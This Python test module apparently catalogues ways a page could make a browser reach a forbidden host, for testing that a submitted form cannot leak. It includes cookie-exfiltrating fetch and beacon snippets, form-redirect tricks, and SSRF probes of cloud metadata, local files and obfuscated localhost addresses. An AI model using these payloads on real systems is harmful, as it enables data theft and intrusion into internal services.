"""Ways in which a page may try to reach a host that its letter must not reach.

`{there}` is the listener's host and port, `{other}` the same by the machine's other address, and
`{site}` the page's own.
"""

# What a page does by itself, each under the path that the listener would be asked for.
QUIET = {
    "img": '<img src="http://{there}/img">',
    "srcset": '<img srcset="http://{there}/srcset 1x">',
    "picture": '<picture><source srcset="http://{there}/picture"><img></picture>',
    "input-image": '<input type=image src="http://{there}/input-image">',
    "script": '<script src="http://{there}/script"></script>',
    "module": '<script type=module src="http://{there}/module"></script>',
    "import": '<script>import("http://{there}/import").catch(() => 0)</script>',
    "css": '<link rel=stylesheet href="http://{there}/css">',
    "css-import": '<style>@import "http://{there}/css-import";</style>',
    "css-url": '<p style="background:url(http://{there}/css-url)">x</p>',
    "font": "<style>@font-face{{font-family:f;src:url(http://{there}/font)}}</style>"
    '<p style="font-family:f">x</p>',
    "icon": '<link rel=icon href="http://{there}/icon">',
    "preload": '<link rel=preload as=fetch href="http://{there}/preload" crossorigin>',
    "prefetch": '<link rel=prefetch href="http://{there}/prefetch">',
    "modulepreload": '<link rel=modulepreload href="http://{there}/modulepreload">',
    "preconnect": '<link rel=preconnect href="http://{there}/">',
    "dns-prefetch": '<link rel=dns-prefetch href="http://{there}/">',
    "prerender": '<script type=speculationrules>{{"prerender":[{{"source":"list","urls":'
    '["http://{there}/prerender"]}}]}}</script>',
    "manifest": '<link rel=manifest href="http://{there}/manifest">',
    "iframe": '<iframe src="http://{there}/iframe"></iframe>',
    "srcdoc": "<iframe srcdoc='<img src=\"http://{there}/srcdoc\">'></iframe>",
    "data-frame": "<iframe src='data:text/html,<img src=\"http://{there}/data-frame\">'></iframe>",
    "object": '<object data="http://{there}/object"></object>',
    "embed": '<embed src="http://{there}/embed">',
    "video": '<video src="http://{there}/video" preload=auto></video>',
    "audio": '<audio preload=auto><source src="http://{there}/audio"></audio>',
    "track": '<video><track default src="http://{there}/track"></video>',
    "svg": '<svg><image href="http://{there}/svg"/></svg>',
    "frame-redirect": '<iframe src="/to/frame-redirect"></iframe>',
    "img-redirect": '<img src="/to/img-redirect">',
    "shared-worker": "<script>new SharedWorker(URL.createObjectURL(new Blob(["
    '\'fetch("http://{there}/shared-worker", {{mode: "no-cors"}})\'])))</script>',
    "frame-refresh": "<iframe srcdoc='<meta http-equiv=refresh "
    'content="0;url=http://{there}/frame-refresh">\'></iframe>',
    "fetch": '<script>fetch("http://{there}/fetch").catch(() => 0)</script>',
    "no-cors": '<script>fetch("http://{there}/no-cors", {{mode: "no-cors", keepalive: true,'
    ' method: "POST", body: document.cookie}}).catch(() => 0)</script>',
    "xhr": '<script>const x = new XMLHttpRequest; x.open("GET", "http://{there}/xhr");'
    "x.send()</script>",
    "beacon": '<script>navigator.sendBeacon("http://{there}/beacon", "x")</script>',
    "websocket": '<script>new WebSocket("ws://{there}/websocket")</script>',
    "eventsource": '<script>new EventSource("http://{there}/eventsource")</script>',
    "worker": "<script>new Worker(URL.createObjectURL(new Blob(["
    "'importScripts(\"http://{there}/worker\")'])))</script>",
    "blob-frame": "<script>const f = document.createElement('iframe'); f.src = "
    "URL.createObjectURL(new Blob(['<img src=\"http://{there}/blob-frame\">'], "
    "{{type: 'text/html'}})); document.documentElement.append(f)</script>",
    "service-worker": "<script>navigator.serviceWorker && navigator.serviceWorker.register("
    '"/sw.js").catch(() => 0)</script>',
    "popup": '<script>window.open("http://{there}/popup")</script>',
    "hidden-form": "<iframe name=hole></iframe><form id=leak target=hole method=post action="
    '"http://{there}/hidden-form"><input name=a></form><script>leak.submit()</script>',
    "ping": '<a id=p href="#" ping="http://{there}/ping">x</a><script>p.click()</script>',
    "webrtc": "<script>const c = new RTCPeerConnection({{iceServers: [{{urls: "
    '["stun:{there}", "stun:{other}"]}}]}}); c.createDataChannel("x");'
    "c.createOffer().then((o) => c.setLocalDescription(o))</script>",
    "webtransport": '<script>new WebTransport("https://{there}/webtransport").ready'
    ".catch(() => 0)</script>",
    "other-address": '<img src="http://{other}/other-address">',
    "localhost": '<img src="http://localhost:{port}/localhost">',
    "localhost-dot": '<img src="http://localhost.:{port}/localhost-dot">',
    "below-localhost": '<img src="http://www.localhost:{port}/below-localhost">',
    "short": '<img src="http://127.1:{port}/short">',
    "decimal": '<img src="http://2130706433:{port}/decimal">',
    "octal": '<img src="http://0177.0.0.1:{port}/octal">',
    "hex": '<img src="http://0x7f.0x1:{port}/hex">',
    "ipv6": '<img src="http://[::1]:{port}/ipv6">',
    "mapped": '<img src="http://[::ffff:127.0.0.1]:{port}/mapped">',
    "zero": '<img src="http://0.0.0.0:{port}/zero">',
    "userinfo": '<img src="http://{site}@{there}/userinfo">',
    "metadata": '<img src="http://169.254.169.254/latest/meta-data/">',
    "private": '<img src="http://10.0.0.1/">',
    "local-file": '<iframe src="file:///etc/hostname"></iframe>',
}
# Of them what the page's own site redirects there.
REDIRECTED = ("frame-redirect", "img-redirect")
# What Chromium asks for under no path of its own, of other hosts, or later than the test waits.
WITHOUT_CONTROL = {
    *("preconnect", "dns-prefetch", "prerender", "manifest", "icon", "service-worker"),
    *("metadata", "private", "local-file", "track", "userinfo", "webrtc", "webtransport"),
}

FORM = (
    "<form method=post action={action}><textarea name=message></textarea>{fields}"
    "<button id=send {button}>Send</button></form>"
)
AWAY = "http://{there}/away"
# Where the page itself goes: what the site answers to a GET of the form and to the letter's POST,
# as (status, header fields, body).
PLAIN_FORM = (200, {}, FORM.format(action="/form", fields="", button=""))
THANKS = (200, {}, "<h1>Thank you</h1>")


def _form(action: str = "/form", *, fields: str = "", button: str = "", before: str = "") -> tuple:
    return 200, {}, before + FORM.format(action=action, fields=fields, button=button)


def _to(place: str, status: int = 302) -> tuple:
    return status, {"Location": place}, ""


REDIRECTS = (301, 302, 303, 307, 308)
LEADING = {
    **{f"the page redirects by {status}": (_to(AWAY, status), THANKS) for status in REDIRECTS},
    **{f"the answer redirects by {each}": (PLAIN_FORM, _to(AWAY, each)) for each in REDIRECTS},
    "the page redirects to the machine's other address": (_to("http://{other}/away"), THANKS),
    "the page redirects with a name before the host": (_to("http://{site}@{there}/away"), THANKS),
    "the page redirects without a scheme": (_to("//{there}/away"), THANKS),
    "the page redirects to a file": (_to("file:///etc/hostname"), THANKS),
    "the page redirects to data": (_to("data:text/html,<img src=http://{there}/away>"), THANKS),
    "the page redirects to the cloud's secrets": (_to("http://169.254.169.254/"), THANKS),
    "the page redirects to IPv6": (_to("http://[::1]:{port}/away"), THANKS),
    "the page refreshes itself": (
        (200, {}, f"<meta http-equiv=refresh content='0;url={AWAY}'>"),
        THANKS,
    ),
    "a header refreshes the page": ((200, {"Refresh": f"0;url={AWAY}"}, "x"), THANKS),
    "a header wants to preload": (
        (200, {"Link": f"<{AWAY}>; rel=preload; as=image"}, PLAIN_FORM[2]),
        THANKS,
    ),
    "the answer refreshes itself": (
        PLAIN_FORM,
        (200, {}, f"<meta http-equiv=refresh content='0;url={AWAY}'>"),
    ),
    "the form goes to another host": (_form(AWAY), THANKS),
    "the form goes there in entities": (_form("&#104;ttp:&#x2f;/{there}/away"), THANKS),
    "the form goes there without a scheme": (_form("//{there}/away"), THANKS),
    "the button goes to another host": (_form(button=f"formaction={AWAY}"), THANKS),
    "a base leads away": (_form("away", before="<base href=http://{there}/>"), THANKS),
    "the form goes into a window": (_form(AWAY, button="formtarget=_blank"), THANKS),
    "the form is a script": (_form("javascript:location='http://{there}/away'"), THANKS),
    "the form is data": (_form("data:text/html,&lt;img/src=http://{there}/away&gt;"), THANKS),
    "the form is sent by mail": (_form("mailto:a@{there}"), THANKS),
}
# What only a browser is led by.
BY_SCRIPT = {
    "a script leads away": ((200, {}, f"<script>location = '{AWAY}'</script>"), THANKS),
    "a script sends the form elsewhere": (
        _form(button=f"onclick=\"this.form.action='{AWAY}'\""),
        THANKS,
    ),
    "a script posts the letter elsewhere": (
        _form(
            button=f"onclick=\"fetch('{AWAY}', {{{{method: 'POST', mode: 'no-cors', "
            'body: new FormData(this.form), keepalive: true}})"'
        ),
        THANKS,
    ),
    "a script tells the letter as the page goes": (
        _form(
            before="<script>addEventListener('pagehide', () => navigator.sendBeacon("
            f"'{AWAY}', new FormData(document.forms[0])))</script>"
        ),
        THANKS,
    ),
    "a script opens a window with the letter": (
        _form(button=f"onclick=\"window.open('{AWAY}?' + this.form.message.value)\""),
        THANKS,
    ),
    "a script clicks on a download": (
        _form(before=f"<a id=d download href={AWAY}>x</a><script>d.click()</script>"),
        THANKS,
    ),
    "a script leads to a blob": (
        (
            200,
            {},
            f"<script>location = URL.createObjectURL(new Blob(['<img src={AWAY}>'], "
            "{{type: 'text/html'}}))</script>",
        ),
        THANKS,
    ),
    "a frame leads the whole page away": (
        _form(before=f"<iframe srcdoc=\"<script>top.location='{AWAY}'</script>\"></iframe>"),
        THANKS,
    ),
    "the answer is a script": (PLAIN_FORM, (200, {}, f"<script>location = '{AWAY}'</script>")),
    "the policy wants reports": (
        (
            200,
            {"Content-Security-Policy": "img-src 'none'; report-uri http://{there}/away"},
            PLAIN_FORM[2] + "<img src=/x>",
        ),
        THANKS,
    ),
    "the answer is a download": (
        PLAIN_FORM,
        (200, {"Content-Disposition": "attachment"}, f"<img src={AWAY}>"),
    ),
}
# What Chromium itself refuses, or what would lead elsewhere than to the listener.
LEADING_NOWHERE = {
    *("the page redirects to a file", "the page redirects to data", "the form is data"),
    *("the page redirects to the cloud's secrets", "the form is sent by mail"),
    "the answer is a download",
}
# Where a recipe itself would lead.
VISITS = (
    "file:///etc/hostname",
    "data:text/html,<img src=http://{there}/away>",
    "javascript:location='http://{there}/away'",
    "view-source:http://{there}/away",
    "chrome://version",
    "ftp://{there}/away",
    "about:blank",
    "http://{there}/away",
    "http://localhost:{port}/away",
)
